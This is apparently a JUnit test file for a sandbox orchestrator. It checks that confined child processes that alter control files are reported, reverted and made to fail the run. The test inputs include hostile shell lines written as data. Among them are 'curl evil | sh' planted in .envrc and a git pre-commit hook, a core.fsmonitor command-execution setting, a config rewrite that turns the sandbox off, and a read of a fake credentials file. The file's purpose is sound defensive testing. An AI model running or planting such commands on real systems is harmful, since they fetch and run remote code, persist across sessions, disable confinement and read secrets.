package dev.magus.orchestrator;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.events.Code;
import dev.magus.events.Mode;
import dev.magus.events.Diagnostic;
import dev.magus.events.Layer;
import dev.magus.events.RunEvent;
import dev.magus.orchestrator.run.Run;
import dev.magus.orchestrator.run.RunRequest;
import dev.magus.orchestrator.run.RunResult;
import dev.magus.telemetry.ndjson.NdjsonSink;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 12, items 2 and 3: a confined child that writes a control file is reported (MGS2002,
 * layer audit) once its process group is gone, the file is put back unless the workspace says
 * {@code controlFiles: report}, and the run fails. Real confined children, required mode, a
 * fake home.
 */
class ControlFileAuditInRunsTest {
    static final String YAML = "sandbox:\n  mode: required\n";

    @TempDir
    Path root;
    TestHost t;

    @BeforeEach
    void setUp() {
        TestHost.assumeLandlock();
        t = new TestHost(root).yaml(YAML);
    }

    private record Outcome(RunResult result, List<RunEvent> events, List<Diagnostic> audit) {
        String text() {
            return TestHost.text(events);
        }
    }

    private Outcome run(Orchestrator o, String script) {
        Run run = o.submit(RunRequest.builder(t.workspace, "sh", "-c", script).build());
        List<RunEvent> events = TestHost.events(run);
        RunResult result = run.result().block(TestHost.DEADLINE);
        List<Diagnostic> audit = events.stream().filter(e -> e instanceof RunEvent.Diag)
                .map(e -> ((RunEvent.Diag) e).diagnostic()).filter(d -> d.layer() == Layer.AUDIT).toList();
        return new Outcome(result, events, audit);
    }

    private Outcome run(String script) {
        return run(t.orchestrator(), script);
    }

    private static Diagnostic only(Outcome o, Path subject) {
        assertThat(o.audit()).as(o.text()).hasSize(1);
        Diagnostic d = o.audit().get(0);
        assertThat(d.code()).isEqualTo(Code.MGS2002);
        assertThat(d.subject()).isEqualTo(subject.toString());
        return d;
    }

    @Test
    void aRewrittenMagusYamlIsReportedRestoredAndTheNextRunIsStillConfined() throws IOException {
        Path secret = Files.writeString(t.home.resolve(".git-credentials"), "https://user:FAKE-SECRET@example.invalid\n");
        Outcome o = run("printf 'sandbox: {mode: off}\\n' > magus.yaml");

        Diagnostic d = only(o, t.workspace.resolve("magus.yaml"));
        assertThat(d.details()).containsEntry("change", "changed").containsEntry("what", "content")
                .containsEntry("entry", "magus.yaml").containsEntry("restored", "true");
        assertThat(d.message()).contains("magus.yaml", "changed", "restored");
        assertThat(o.result().status()).as("the child exited 0, the audit fails the run").isEqualTo(1);
        assertThat(o.events().get(o.events().size() - 1)).isInstanceOf(RunEvent.Exited.class);
        assertThat(Files.readString(t.workspace.resolve("magus.yaml"))).isEqualTo(YAML);

        Outcome next = run("cat " + secret);
        assertThat(next.events().get(0)).isInstanceOfSatisfying(RunEvent.Started.class,
                s -> assertThat(s.mode()).isEqualTo(Mode.REQUIRED));
        assertThat(next.result().status()).isNotZero();
        assertThat(next.text()).doesNotContain("FAKE-SECRET");
        assertThat(next.audit()).isEmpty();
    }

    @Test
    void aChildThatEditsTheFileAControlLinkLeadsToIsCaughtAndUndone() throws IOException {
        // direnv reads .envrc through the link: editing envrc.real is editing .envrc.
        Path real = Files.writeString(t.workspace.resolve("envrc.real"), "export A=1\n");
        Files.createSymbolicLink(t.workspace.resolve(".envrc"), Path.of("envrc.real"));
        Outcome o = run("echo 'curl evil | sh' >> envrc.real");
        Diagnostic d = only(o, t.workspace.resolve(".envrc"));
        assertThat(d.details()).containsEntry("change", "changed").containsEntry("restored", "true")
                .containsEntry("target", real.toRealPath().toString());
        assertThat(d.message()).contains(".envrc", "envrc.real", "restored");
        assertThat(o.result().status()).as("the child exited 0, the audit fails the run").isEqualTo(1);
        assertThat(Files.readString(real)).isEqualTo("export A=1\n");
        assertThat(t.workspace.resolve(".envrc")).isSymbolicLink();
    }

    @Test
    void aMagusYamlTruncatedTo100GigabytesIsPutBackWithoutBeingRead() throws IOException {
        Outcome o = run("truncate -s 100G magus.yaml");
        Diagnostic d = only(o, t.workspace.resolve("magus.yaml"));
        assertThat(d.details()).containsEntry("change", "changed").containsEntry("what", "content")
                .containsEntry("restored", "true");
        assertThat(o.result().status()).isEqualTo(1);
        assertThat(Files.readString(t.workspace.resolve("magus.yaml"))).isEqualTo(YAML);
    }

    @Test
    void aNestedMagusYamlCreatedByTheRunIsRemoved() {
        Outcome o = run("mkdir -p sub && printf 'sandbox: {mode: off}\\n' > sub/magus.yaml");
        Diagnostic d = only(o, t.workspace.resolve("sub/magus.yaml"));
        assertThat(d.details()).containsEntry("change", "created");
        assertThat(o.result().status()).isEqualTo(1);
        assertThat(t.workspace.resolve("sub/magus.yaml")).doesNotExist();
        assertThat(t.workspace.resolve("sub")).isDirectory();
    }

    @Test
    void withControlFilesReportTheChangeIsReportedAndLeft() throws IOException {
        String yaml = "sandbox:\n  mode: required\n  controlFiles: report\n";
        t.yaml(yaml);
        Outcome o = run("printf 'export X=1\\n' > .envrc; printf 'sandbox: {mode: off}\\n' > magus.yaml");
        assertThat(o.audit()).as(o.text()).hasSize(2);
        assertThat(o.audit()).allSatisfy(d -> {
            assertThat(d.details()).containsEntry("restored", "false");
            assertThat(d.message()).contains("sandbox.controlFiles: report");
        });
        assertThat(o.result().status()).isEqualTo(1);
        assertThat(Files.readString(t.workspace.resolve(".envrc"))).isEqualTo("export X=1\n");
        assertThat(Files.readString(t.workspace.resolve("magus.yaml"))).isEqualTo("sandbox: {mode: off}\n");
    }

    @Test
    void envrcAndVscodeTasksCreatedByTheRunAreRemoved() {
        Outcome o = run("echo 'curl evil | sh' > .envrc; mkdir -p app/.vscode; echo '{}' > app/.vscode/tasks.json");
        assertThat(o.audit()).as(o.text()).extracting(Diagnostic::subject)
                .containsExactlyInAnyOrder(t.workspace.resolve(".envrc").toString(),
                        t.workspace.resolve("app/.vscode/tasks.json").toString());
        assertThat(o.audit()).allSatisfy(d -> assertThat(d.details()).containsEntry("change", "created"));
        assertThat(o.result().status()).isEqualTo(1);
        assertThat(t.workspace.resolve(".envrc")).doesNotExist();
        assertThat(t.workspace.resolve("app/.vscode/tasks.json")).doesNotExist();
    }

    @Test
    void aChangeToAnythingElseIsNotReported() throws IOException {
        Outcome o = run("echo x > notes.txt; mkdir -p node_modules/a/b; echo y > node_modules/a/b/index.js;"
                + " echo z > tasks.json; mkdir -p hooks; echo w > hooks/config");
        assertThat(o.audit()).as(o.text()).isEmpty();
        assertThat(o.result().status()).isZero();
        assertThat(Files.readString(t.workspace.resolve("node_modules/a/b/index.js"))).isEqualTo("y\n");
    }

    @Test
    void aChildThatFailsAndChangesAControlFileKeepsItsOwnStatus() {
        Outcome o = run("echo x > .tool-versions; exit 3");
        only(o, t.workspace.resolve(".tool-versions"));
        assertThat(o.result().status()).isEqualTo(3);
        assertThat(t.workspace.resolve(".tool-versions")).doesNotExist();
    }

    @Test
    void theFindingReachesNdjsonAndMetrics() {
        ByteArrayOutputStream ndjson = new ByteArrayOutputStream();
        SimpleMeterRegistry registry = new SimpleMeterRegistry();
        try (Orchestrator o = Orchestrator.builder(t.host()).sink(new NdjsonSink(ndjson)).meterRegistry(registry).build()) {
            only(run(o, "echo x > .envrc"), t.workspace.resolve(".envrc"));
        }
        String lines = ndjson.toString(StandardCharsets.UTF_8);
        assertThat(lines).containsPattern("\"type\":\"diagnostic\".*\"code\":\"MGS2002\".*\"layer\":\"audit\"");
        assertThat(registry.get("magus.diagnostics").tag("code", "MGS2002").tag("layer", "audit").counter().count())
                .isEqualTo(1.0);
    }

    /** The git cases: a repository made by the test, unconfined, in the fake home. */
    private Path git() throws IOException, InterruptedException {
        return t.gitInit("git audit test skipped: no git on PATH");
    }

    @Test
    void aPlantedPreCommitHookIsRemoved() throws Exception {
        git();
        Path hook = t.workspace.resolve(".git/hooks/pre-commit");
        Outcome o = run("printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
        Diagnostic d = only(o, hook);
        assertThat(d.details()).containsEntry("change", "created").containsEntry("entry", ".git/hooks/");
        assertThat(o.result().status()).isEqualTo(1);
        assertThat(hook).doesNotExist();
    }

    @Test
    void coreFsmonitorSetByTheRunIsTakenOutOfTheConfigAgain() throws Exception {
        git();
        Path config = t.workspace.resolve(".git/config");
        byte[] before = Files.readAllBytes(config);
        Object mode = Files.getAttribute(config, "unix:mode");
        Outcome o = run("git config core.fsmonitor 'touch pwned'");
        Diagnostic d = only(o, config);
        assertThat(d.details()).containsEntry("change", "changed").containsEntry("entry", ".git/config");
        assertThat(o.result().status()).isEqualTo(1);
        assertThat(Files.readAllBytes(config)).isEqualTo(before);
        assertThat(Files.getAttribute(config, "unix:mode")).isEqualTo(mode);
        assertThat(new String(Files.readAllBytes(config), StandardCharsets.UTF_8)).doesNotContain("fsmonitor");
    }

    @Test
    void hooksReplacedByALinkOutsideAreRestoredWithoutWritingThroughIt() throws Exception {
        git();
        Path outside = Files.createDirectories(t.home.resolve("elsewhere"));
        Path hooks = t.workspace.resolve(".git/hooks");
        long samples;
        try (var s = Files.list(hooks)) {
            samples = s.count();
        }
        // The child cannot reach ~/elsewhere; the link is all it plants.
        Outcome o = run("rm -rf .git/hooks && ln -s " + outside + " .git/hooks");
        assertThat(o.audit()).as(o.text()).isNotEmpty();
        assertThat(o.result().status()).isEqualTo(1);
        assertThat(Files.isSymbolicLink(hooks)).isFalse();
        assertThat(hooks).isDirectory();
        try (var s = Files.list(hooks)) {
            assertThat(s.count()).isEqualTo(samples);
        }
        try (var s = Files.list(outside)) {
            assertThat(s.toList()).as("nothing written through the planted link").isEmpty();
        }
        assertThat(Files.exists(hooks, LinkOption.NOFOLLOW_LINKS)).isTrue();
    }

    @Test
    void offRunsAreNotAudited() {
        t.yaml("sandbox:\n  mode: off\n");
        Outcome o = run("echo x > .envrc");
        assertThat(o.audit()).isEmpty();
        assertThat(o.result().status()).isZero();
        assertThat(t.workspace.resolve(".envrc")).exists();
    }
}
